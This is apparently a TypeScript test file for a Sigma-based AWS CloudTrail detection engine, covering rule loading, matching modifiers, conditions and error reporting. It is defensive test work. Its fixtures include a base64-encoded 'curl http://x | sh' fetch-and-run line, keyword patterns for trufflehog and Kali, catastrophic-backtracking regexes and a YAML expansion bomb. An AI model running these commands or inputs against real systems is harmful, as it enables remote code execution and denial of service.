import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { Detector } from '../../src/detect/engine.js';
import { loadRules } from '../../src/detect/sigma/ruleset.js';
import { detection, ev, FIXTURES, load, rejection, run, stratus } from './helpers.js';

const SIGMAHQ = join(FIXTURES, 'sigma', 'sigmahq');

describe('SigmaHQ AWS CloudTrail rules', () => {
  const loaded = loadRules([SIGMAHQ]);
  const titlesFor = (events: ReturnType<typeof ev>[]) => {
    const d = new Detector(loaded.ruleset);
    for (const e of events) d.process(e);
    return d.finish().map((a) => a.title);
  };

  it('all 57 rules load and compile unchanged', () => {
    assert.equal(readdirSync(SIGMAHQ).filter((f) => f.endsWith('.yml')).length, 57);
    assert.deepEqual(loaded.errors.map((e) => e.message), []);
    assert.equal(loaded.ruleset.detections.length, 57);
  });

  it('match real detonations and not their benign neighbours', () => {
    assert.deepEqual(titlesFor(stratus('defense-evasion.cloudtrail-stop')), ['AWS CloudTrail Important Change']);
    assert.deepEqual(titlesFor(stratus('initial-access.console-login-without-mfa')), ['AWS Successful Console Login Without MFA']);
    assert.deepEqual(titlesFor(stratus('defense-evasion.vpc-remove-flow-logs')), ['AWS VPC Flow Logs Deleted']);
    assert.deepEqual(titlesFor(stratus('exfiltration.ec2-share-ebs-snapshot')), ['AWS Snapshot Backup Exfiltration']);
    // The same login with MFA, and a read-only CloudTrail call, are not alerts.
    const login = stratus('initial-access.console-login-without-mfa')[0]!;
    assert.deepEqual(titlesFor([{ ...login, additionalEventData: { MFAUsed: 'Yes' } }]), []);
    assert.deepEqual(titlesFor([ev({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'DescribeTrails' })]), []);
  });

  it('fieldref: a user updating their own login profile is filtered out', () => {
    const base = stratus('privilege-escalation.iam-update-user-login-profile')[0]!;
    assert.deepEqual(titlesFor([base]), ['AWS User Login Profile Was Modified']);
    const self = { ...base, userIdentity: { ...(base.userIdentity as object), arn: 'bob' }, requestParameters: { userName: 'bob' } };
    assert.deepEqual(titlesFor([self]), []);
  });

  it('re with a filter: assumed-role credentials used from outside AWS', () => {
    const stolen = ev({ userIdentity: { type: 'AssumedRole', arn: 'arn:aws:sts::111122223333:assumed-role/aws:ec2-instance/i-0abc' } });
    assert.match(titlesFor([stolen]).join(), /Malicious Usage Of IMDS Credentials/);
    assert.doesNotMatch(titlesFor([{ ...stolen, sourceIPAddress: 'AWS Internal' }]).join(), /IMDS/);
  });

  it('contains|all on a request object searches the policy text nested inside it', () => {
    const policy = JSON.stringify({ Statement: [{ Effect: 'Allow', Action: ['s3:GetObject'], Resource: ['arn:aws:s3:::<YOUR-BUCKET-NAME>/*'] }] });
    const e = ev({ eventName: 'PutUserPolicy', userAgent: 'S3 Browser 11.5', requestParameters: { userName: 'u', policyName: 'p', policyDocument: policy } });
    assert.match(titlesFor([e]).join(), /Templated S3 Bucket Policy/);
    const other = ev({ eventName: 'PutUserPolicy', userAgent: 'S3 Browser 11.5', requestParameters: { policyDocument: policy.replace('<YOUR-BUCKET-NAME>', 'real-bucket') } });
    assert.doesNotMatch(titlesFor([other]).join(), /Templated S3 Bucket Policy/);
  });
});

describe('selections', () => {
  it('a map is AND, a list of values is OR, matching is case-insensitive', () => {
    const m = detection(`    sel:\n        eventSource: iam.amazonaws.com\n        eventName:\n            - CreateUser\n            - DeleteUser\n    condition: sel`);
    assert.equal(m(ev({ eventName: 'createuser' })), true);
    assert.equal(m(ev({ eventName: 'DeleteUser' })), true);
    assert.equal(m(ev({ eventName: 'ListUsers' })), false);
    assert.equal(m(ev({ eventName: 'CreateUser', eventSource: 'sts.amazonaws.com' })), false);
  });

  it('a list of maps is OR of ANDs', () => {
    const m = detection(`    sel:\n        - eventName: A\n          awsRegion: us-east-1\n        - eventName: B\n    condition: sel`);
    assert.equal(m(ev({ eventName: 'A' })), true);
    assert.equal(m(ev({ eventName: 'A', awsRegion: 'eu-west-1' })), false);
    assert.equal(m(ev({ eventName: 'B', awsRegion: 'eu-west-1' })), true);
  });

  it('dotted paths reach nested fields, through arrays', () => {
    const m = detection(`    sel:\n        userIdentity.type: Root\n        requestParameters.instancesSet.items.instanceType: p4d.24xlarge\n    condition: sel`);
    const rp = { instancesSet: { items: [{ instanceType: 't3.micro' }, { instanceType: 'p4d.24xlarge' }] } };
    assert.equal(m(ev({ userIdentity: { type: 'Root' }, requestParameters: rp })), true);
    assert.equal(m(ev({ userIdentity: { type: 'IAMUser' }, requestParameters: rp })), false);
    assert.equal(m(ev({ userIdentity: { type: 'Root' }, requestParameters: null })), false);
  });

  it('wildcards * and ?, and escaped wildcards match themselves', () => {
    const m = detection(`    sel:\n        userAgent: 'aws-cli/2.?.*'\n    condition: sel`);
    assert.equal(m(ev({ userAgent: 'aws-cli/2.1.0 Python' })), true);
    assert.equal(m(ev({ userAgent: 'aws-cli/2.15.0' })), false, '? is exactly one character');
    const astral = detection(`    sel:\n        requestParameters.tag: 'x?y*'\n    condition: sel`);
    assert.equal(astral(ev({ requestParameters: { tag: 'x😀y' } })), true, '? is one character outside the BMP too');
    assert.equal(astral(ev({ requestParameters: { tag: 'x😀😀y' } })), false);
    const lit = detection(`    sel:\n        requestParameters.name: 'a\\*b'\n    condition: sel`);
    assert.equal(lit(ev({ requestParameters: { name: 'a*b' } })), true);
    assert.equal(lit(ev({ requestParameters: { name: 'axxb' } })), false);
  });

  it('a value matches itself case-insensitively though its lower case is longer (U+0130)', () => {
    const m = detection(`    sel:\n        requestParameters.city: 'İzmir'\n    condition: sel`);
    assert.equal(m(ev({ requestParameters: { city: 'İzmir' } })), true);
    assert.equal(m(ev({ requestParameters: { city: 'i̇zmir' } })), true);
    assert.equal(m(ev({ requestParameters: { city: 'Izmir' } })), false);
  });

  it('null matches an absent or null field; numbers and booleans compare by value', () => {
    const m = detection(`    sel:\n        errorCode: null\n        readOnly: false\n        requestParameters.maxCount: 10\n    condition: sel`);
    assert.equal(m(ev({ readOnly: false, requestParameters: { maxCount: 10 } })), true);
    assert.equal(m(ev({ readOnly: false, errorCode: 'AccessDenied', requestParameters: { maxCount: 10 } })), false);
    assert.equal(m(ev({ readOnly: true, requestParameters: { maxCount: 10 } })), false);
    assert.equal(m(ev({ readOnly: false, requestParameters: { maxCount: '10' } })), true);
  });

  it('an unquoted account id with a leading zero stays the string it is written as', () => {
    const m = detection(`    sel:\n        recipientAccountId: 012345678901\n        userIdentity.accountId:\n            - 000011112222\n    condition: sel`);
    assert.equal(m(ev({ recipientAccountId: '012345678901', userIdentity: { accountId: '000011112222' } })), true);
    assert.equal(m(ev({ recipientAccountId: '12345678901', userIdentity: { accountId: '000011112222' } })), false);
  });

  it('keywords search every string of the event', () => {
    const m = detection(`    keywords:\n        - trufflehog\n        - 'kali*linux'\n    condition: keywords`);
    assert.equal(m(ev({ userAgent: 'TruffleHog/3.0' })), true);
    assert.equal(m(ev({ requestParameters: { note: 'from Kali GNU/Linux' } })), true);
    assert.equal(m(ev()), false);
  });

  it("'|all' keywords: every one somewhere in the event, in the same string or not", () => {
    const m = detection(`    keywords:\n        '|all':\n            - StopLogging\n            - alice\n    condition: keywords`);
    assert.equal(m(ev({ eventName: 'StopLogging', userIdentity: { userName: 'alice' } })), true);
    assert.equal(m(ev({ eventName: 'StopLogging', userIdentity: { userName: 'bob' } })), false);
    assert.equal(m(ev({ eventName: 'ListUsers', userIdentity: { userName: 'alice' } })), false);
  });
});

describe('modifiers', () => {
  const one = (item: string) => detection(`    sel:\n        ${item}\n    condition: sel`);

  it('contains, startswith, endswith', () => {
    assert.equal(one(`userAgent|contains: CLI/2`)(ev()), true);
    assert.equal(one(`userAgent|startswith: AWS-CLI`)(ev()), true);
    assert.equal(one(`userAgent|startswith: cli`)(ev()), false);
    assert.equal(one(`userAgent|endswith: '.0'`)(ev()), true);
    assert.equal(one(`userAgent|endswith: aws`)(ev()), false);
  });

  it('all requires every value', () => {
    const m = one(`userAgent|contains|all: [aws, cli]`);
    assert.equal(m(ev()), true);
    assert.equal(m(ev({ userAgent: 'aws-sdk-go' })), false);
  });

  it('cased makes matching case-sensitive', () => {
    assert.equal(one(`eventName|cased: CreateUser`)(ev({ eventName: 'createuser' })), false);
    assert.equal(one(`eventName|cased: CreateUser`)(ev({ eventName: 'CreateUser' })), true);
  });

  it('re is case-sensitive unless i; m and s change anchors and dot', () => {
    assert.equal(one(`userAgent|re: '^AWS-CLI'`)(ev()), false);
    assert.equal(one(`userAgent|re|i: '^AWS-CLI'`)(ev()), true);
    const multi = ev({ requestParameters: { script: 'line1\nsudo x' } });
    assert.equal(one(`requestParameters.script|re: '^sudo'`)(multi), false);
    assert.equal(one(`requestParameters.script|re|m: '^sudo'`)(multi), true);
    assert.equal(one(`requestParameters.script|re: 'line1.sudo'`)(multi), false);
    assert.equal(one(`requestParameters.script|re|s: 'line1.sudo'`)(multi), true);
  });

  // Backtracking, each of these takes longer than the test's timeout on a field an attacker writes
  // (2^40 steps; a wildcard with many stars is polynomial of high degree): detection must not stall.
  it('a rule regex or wildcard that backtracks catastrophically still answers, and answers right', { timeout: 30_000 }, () => {
    const agent = (s: string) => ev({ userAgent: s });
    const evil = `${'a'.repeat(40)}!`;
    assert.equal(one(`userAgent|re: '^(a+)+$'`)(agent(evil)), false);
    assert.equal(one(`userAgent|re: '^(a+)+$'`)(agent('aaaa')), true);
    assert.equal(one(`userAgent|re|m|s: '(a|aa)+b'`)(agent(evil)), false);
    assert.equal(one(`userAgent|re|m|s: '(a|aa)+b'`)(agent('aab')), true);
    const stars = `userAgent: '*a*a*a*a*a*a*a*a*a*a*b*'`;
    assert.equal(one(stars)(agent('a'.repeat(3000))), false);
    assert.equal(one(stars)(agent(`${'a'.repeat(10)}b`)), true);
    assert.equal(one(stars)(agent(`${'A'.repeat(10)}B`)), true);
    assert.equal(one(`userAgent: 'x?y*z'`)(agent('x😀yz')), true);
    assert.equal(one(`userAgent: 'x?y*z'`)(agent('x😀😀yz')), false);
    assert.equal(one(`userAgent|cased: 'A*b?c'`)(agent('Axxbqc')), true);
    assert.equal(one(`userAgent|cased: 'A*b?c'`)(agent('axxbqc')), false);
  });

  it('cidr for IPv4 and IPv6; non-IP values never match', () => {
    assert.equal(one(`sourceIPAddress|cidr: 198.51.100.0/24`)(ev()), true);
    assert.equal(one(`sourceIPAddress|cidr: 203.0.113.0/24`)(ev()), false);
    assert.equal(one(`sourceIPAddress|cidr: '2001:db8::/32'`)(ev({ sourceIPAddress: '2001:db8:1::5' })), true);
    assert.equal(one(`sourceIPAddress|cidr: 10.0.0.0/8`)(ev({ sourceIPAddress: 'ec2.amazonaws.com' })), false);
  });

  it('exists checks presence, even of a null value', () => {
    assert.equal(one(`errorCode|exists: true`)(ev({ errorCode: 'AccessDenied' })), true);
    assert.equal(one(`errorCode|exists: true`)(ev()), false);
    assert.equal(one(`errorCode|exists: false`)(ev()), true);
    assert.equal(one(`requestParameters|exists: true`)(ev({ requestParameters: null })), true);
  });

  it('only a record\'s own members are fields: a name every object inherits matches only where the record spells it', () => {
    assert.equal(one(`constructor|exists: true`)(ev()), false);
    assert.equal(one(`userIdentity.toString|exists: true`)(ev()), false);
    assert.equal(one(`constructor|contains: Function`)(ev()), false);
    assert.equal(one(`userIdentity.hasOwnProperty|exists: false`)(ev()), true);
    const spelled = JSON.parse('{"eventName":"X","constructor":"Function here","userIdentity":{"toString":"x","__proto__":"p"}}');
    assert.equal(one(`constructor|exists: true`)(spelled), true);
    assert.equal(one(`constructor|contains: Function`)(spelled), true);
    assert.equal(one(`userIdentity.toString: x`)(spelled), true);
    assert.equal(one(`userIdentity.__proto__: p`)(spelled), true);
  });

  it('exists follows dotted paths into objects and every element of arrays, and flattened keys', () => {
    const invoked = one(`userIdentity.invokedBy|exists: true`);
    assert.equal(invoked(ev({ userIdentity: { type: 'AWSService', invokedBy: 'ec2.amazonaws.com' } })), true);
    assert.equal(invoked(ev({ userIdentity: { type: 'IAMUser' } })), false);
    assert.equal(invoked(ev({ userIdentity: null })), false);
    assert.equal(invoked({ eventName: 'X', 'userIdentity.invokedBy': 'ec2.amazonaws.com' }), true);
    const arn = one(`resources.ARN|exists: true`);
    assert.equal(arn(ev({ resources: [{ type: 'AWS::S3::Bucket' }, { ARN: 'arn:aws:s3:::b' }] })), true);
    assert.equal(arn(ev({ resources: [{ type: 'AWS::S3::Bucket' }] })), false);
    assert.equal(arn(ev({ resources: [] })), false);
    assert.equal(one(`resources.ARN|exists: false`)(ev({ resources: [{ type: 'AWS::S3::Bucket' }] })), true);
  });

  it('lt, lte, gt, gte compare numbers (numeric strings too)', () => {
    const e = ev({ requestParameters: { maxCount: 10 } });
    assert.equal(one(`requestParameters.maxCount|gt: 9`)(e), true);
    assert.equal(one(`requestParameters.maxCount|gt: 10`)(e), false);
    assert.equal(one(`requestParameters.maxCount|gte: 10`)(e), true);
    assert.equal(one(`requestParameters.maxCount|lt: 10`)(e), false);
    assert.equal(one(`requestParameters.maxCount|lte: 10`)(ev({ requestParameters: { maxCount: '10' } })), true);
  });

  it('base64 and base64offset find encoded text', () => {
    const data = Buffer.from('#!/bin/bash\ncurl http://x | sh').toString('base64');
    const e = ev({ requestParameters: { userData: data } });
    assert.equal(one(`requestParameters.userData|base64offset|contains: 'curl http'`)(e), true);
    assert.equal(one(`requestParameters.userData|base64offset|contains: 'wget'`)(e), false);
    assert.equal(one(`requestParameters.userData|base64|startswith: '#!/bin/bash'`)(ev({ requestParameters: { userData: Buffer.from('#!/bin/bash\nx').toString('base64') } })), false, 'startswith of a partial base64 block needs base64offset');
    assert.equal(one(`requestParameters.userData|base64: 'hello'`)(ev({ requestParameters: { userData: 'aGVsbG8=' } })), true);
  });

  it('fieldref compares two fields of the same event', () => {
    const m = one(`userIdentity.userName|fieldref: requestParameters.userName`);
    assert.equal(m(ev({ requestParameters: { userName: 'ALICE' } })), true);
    assert.equal(m(ev({ requestParameters: { userName: 'mallory' } })), false);
  });

  it('cidr, comparisons, time parts and fieldref test each element of an array, as string values do', () => {
    const e = ev({ requestParameters: { addresses: ['192.0.2.1', '10.1.2.3'], ports: [22, 8080], times: ['2026-11-20T01:00:00Z', '2026-11-20T23:00:00Z'], userName: ['bob', 'alice'] } });
    assert.equal(one(`requestParameters.addresses|cidr: 10.0.0.0/8`)(e), true);
    assert.equal(one(`requestParameters.addresses|cidr: 172.16.0.0/12`)(e), false);
    assert.equal(one(`requestParameters.ports|gt: 1024`)(e), true);
    assert.equal(one(`requestParameters.ports|gt: 9000`)(e), false);
    assert.equal(one(`requestParameters.times|hour: 23`)(e), true);
    assert.equal(one(`userIdentity.userName|fieldref: requestParameters.userName`)(e), true);
    assert.equal(one(`requestParameters.userName|fieldref: userIdentity.userName`)(e), true);
    assert.equal(one(`requestParameters.addresses: '10.1.2.3'`)(e), true);
  });

  it('neq excludes values; hour extracts a time part', () => {
    assert.equal(one(`awsRegion|neq: us-east-1`)(ev()), false);
    assert.equal(one(`awsRegion|neq: us-east-1`)(ev({ awsRegion: 'ap-south-1' })), true);
    assert.equal(one(`eventTime|hour|gte: 22`)(ev({ eventTime: '2026-11-20T23:10:00Z' })), true);
    assert.equal(one(`eventTime|hour|gte: 22`)(ev()), false);
  });
});

describe('conditions', () => {
  const body = `    a:\n        eventName: A\n    b:\n        awsRegion: us-east-1\n    filter_x:\n        userAgent|contains: x\n    filter_y:\n        userAgent|contains: y\n`;
  const cond = (c: string) => detection(`${body}    condition: ${c}`);
  const E = (name: string, region: string, ua: string) => ev({ eventName: name, awsRegion: region, userAgent: ua });

  it('and, or, not, parentheses and precedence', () => {
    assert.equal(cond('a and b')(E('A', 'us-east-1', '')), true);
    assert.equal(cond('a and b')(E('A', 'eu-west-1', '')), false);
    assert.equal(cond('a or b')(E('Z', 'us-east-1', '')), true);
    assert.equal(cond('a and not b')(E('A', 'us-east-1', '')), false);
    // not > and > or: "not a or b" is "(not a) or b"
    assert.equal(cond('not a or b')(E('A', 'us-east-1', '')), true);
    assert.equal(cond('not (a or b)')(E('A', 'eu-west-1', '')), false);
    assert.equal(cond('a or b and filter_x')(E('A', 'eu-west-1', '')), true);
    assert.equal(cond('(a or b) and filter_x')(E('A', 'eu-west-1', '')), false);
  });

  it('1 of, all of, them', () => {
    assert.equal(cond('a and not 1 of filter_*')(E('A', 'x', 'has y')), false);
    assert.equal(cond('a and not 1 of filter_*')(E('A', 'x', 'zzz')), true);
    assert.equal(cond('all of filter_*')(E('A', 'x', 'x and y')), true);
    assert.equal(cond('all of filter_*')(E('A', 'x', 'x')), false);
    assert.equal(cond('1 of them')(E('Q', 'eu', 'y')), true);
    assert.equal(cond('all of them')(E('A', 'us-east-1', 'xy')), true);
    assert.equal(cond('all of them')(E('A', 'us-east-1', 'x')), false);
  });
});

describe('rejections name the feature, the file and the position', () => {
  const rule = (det: string, extra = '') =>
    `title: t\n${extra}logsource:\n    product: aws\n    service: cloudtrail\ndetection:\n${det}\n`;

  for (const [name, det, pattern, line] of [
    ['windash', `    sel:\n        userAgent|windash: '-x'\n    condition: sel`, /modifier "windash" is not supported/, 7],
    ['expand', `    sel:\n        userAgent|expand: '%x%'\n    condition: sel`, /modifier "expand" is not supported/, 7],
    ['utf16le', `    sel:\n        userAgent|wide|base64: x\n    condition: sel`, /modifier "wide" is not supported/, 7],
    ['unknown modifier', `    sel:\n        userAgent|containz: x\n    condition: sel`, /unknown modifier "containz"/, 7],
    ['aggregation', `    sel:\n        eventName: x\n    condition: sel | count() > 5`, /aggregation expressions/, 8],
    ['near', `    sel:\n        eventName: x\n    condition: sel near sel`, /"near" is not supported/, 8],
    ['undefined selection', `    sel:\n        eventName: x\n    condition: sel and other`, /"other", which is not a selection/, 8],
    ['bad regex', `    sel:\n        eventName|re: '(unclosed'\n    condition: sel`, /invalid regular expression/, 7],
    ['PCRE escape JavaScript misreads', `    sel:\n        userIdentity.arn|re: '\\Aarn:aws:iam::\\d+:root\\z'\n    condition: sel`, /uses the escape \\A, which JavaScript reads differently from PCRE/, 7],
    ['PCRE property escape', `    sel:\n        userAgent|re: '^\\p{Lu}'\n    condition: sel`, /uses the escape \\p/, 7],
    ['POSIX class', `    sel:\n        userAgent|re: '^[[:digit:]]+$'\n    condition: sel`, /uses the POSIX class \[:digit:\]/, 7],
    ['all on one value', `    sel:\n        eventName|contains|all: x\n    condition: sel`, /"all" needs a list/, 7],
    ['more of than there are', `    sel_a:\n        eventName: x\n    sel_b:\n        eventName: y\n    condition: 3 of sel_*`, /"3 of sel_\*" can never hold: "sel_\*" names 2 selections/, 10],
    ['timeframe', `    sel:\n        eventName: x\n    timeframe: 5m\n    condition: sel`, /"timeframe" is not supported/, 8],
    ['modifiers of two kinds', `    sel:\n        requestParameters.userData|re|base64: abc\n    condition: sel`, /modifiers "re" and "base64" cannot be combined/, 7],
    ['two comparisons', `    sel:\n        requestParameters.maxCount|gt|lt: 5\n    condition: sel`, /modifiers "gt" and "lt" cannot be combined/, 7],
    ['two time parts', `    sel:\n        eventTime|hour|minute: 5\n    condition: sel`, /modifiers "hour" and "minute" cannot be combined/, 7],
    ['two encodings', `    sel:\n        requestParameters.userData|base64|base64offset|contains: abc\n    condition: sel`, /modifiers "base64" and "base64offset" cannot be combined/, 7],
    ['fieldref with cidr', `    sel:\n        sourceIPAddress|fieldref|cidr: requestParameters.ip\n    condition: sel`, /modifiers "fieldref" and "cidr" cannot be combined/, 7],
    ['contains on a network', `    sel:\n        sourceIPAddress|cidr|contains: 10.0.0.0/8\n    condition: sel`, /modifier "contains" does not apply to "cidr" values/, 7],
    ['startswith on a number', `    sel:\n        requestParameters.maxCount|startswith|gt: 5\n    condition: sel`, /modifier "startswith" does not apply to "gt" values/, 7],
    ['keyword modifier other than all', `    keywords:\n        '|re':\n            - a\n            - b\n    condition: keywords`, /keywords take only the "all" modifier \("\|re"\)/, 7],
  ] as const) {
    it(name, () => {
      const err = rejection(rule(det));
      assert.match(err.message, pattern);
      assert.match(err.message, new RegExp(`^rule0\\.yml:${line}:\\d+: `));
    });
  }

  it('another log source', () => {
    const err = rejection(`title: t\nlogsource:\n    product: windows\n    service: security\ndetection:\n    sel:\n        EventID: 4625\n    condition: sel\n`);
    assert.match(err.message, /^rule0\.yml:2:1: logsource must be product "aws", service "cloudtrail"/);
  });

  it('invalid YAML points at the error', () => {
    assert.match(rejection(`title: t\ndetection: [unclosed\n`).message, /^rule0\.yml:\d+:\d+: invalid YAML/);
  });

  it('one rejected rule does not prevent the others in the same file from loading', async () => {
    const { load } = await import('./helpers.js');
    const r = load(`${rule(`    sel:\n        eventName|windash: x\n    condition: sel`)}---\n${rule(`    sel:\n        eventName: x\n    condition: sel`, 'id: ok\n')}`);
    assert.equal(r.errors.length, 1);
    assert.deepEqual(r.ruleset.detections.map((d) => d.id), ['ok']);
  });

  it('a document that is not valid YAML does not prevent the others in the same file from loading', async () => {
    const { load } = await import('./helpers.js');
    const ok = (id: string) => rule(`    sel:\n        eventName: x\n    condition: sel`, `id: ${id}\n`);
    const dup = rule(`    sel:\n        eventName: x\n        eventName: y\n    condition: sel`);
    const r = load(`${ok('first')}---\n${dup}---\n${ok('last')}---\n- a list\n`);
    assert.deepEqual(r.errors.map((e) => e.message), ['rule0.yml:18:9: invalid YAML: Map keys must be unique', 'rule0.yml:31:1: a Sigma rule must be a YAML mapping']);
    assert.deepEqual(r.ruleset.detections.map((d) => d.id), ['first', 'last']);
    const bomb = `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n`;
    const b = load(`${ok('first')}---\n${bomb}`);
    assert.match(b.errors[0]?.message ?? '', /^rule0\.yml:\d+:1: invalid YAML: /);
    assert.deepEqual(b.ruleset.detections.map((d) => d.id), ['first']);
  });
});

describe('the event-name index never hides a match', () => {
  const rule = (condition: string) =>
    load(
      `title: t\nid: t\nlogsource:\n    product: aws\n    service: cloudtrail\ndetection:\n    sel_a:\n        eventName: DeleteTrail\n    sel_b:\n        eventName: [StopLogging, UpdateTrail]\n    sel_c:\n        eventName: [StopLogging, PutEventSelectors]\n    condition: ${condition}\nlevel: high\n`,
    );
  it('"2 of" three selections: any two may be the matching ones, so the index holds every name', () => {
    const r = rule('2 of sel_*');
    assert.deepEqual([...r.ruleset.detections[0]!.eventNames!].sort(), ['deletetrail', 'puteventselectors', 'stoplogging', 'updatetrail']);
    assert.equal(run(r, [ev({ eventName: 'StopLogging' })]).length, 1);
  });
  it('"all of" and "and" keep the narrowest selection; "not" pins nothing', () => {
    assert.deepEqual([...rule('all of sel_*').ruleset.detections[0]!.eventNames!], ['deletetrail']);
    assert.deepEqual([...rule('sel_b and sel_c').ruleset.detections[0]!.eventNames!].sort(), ['stoplogging', 'updatetrail']);
    assert.equal(rule('not sel_a').ruleset.detections[0]!.eventNames, undefined);
  });
});
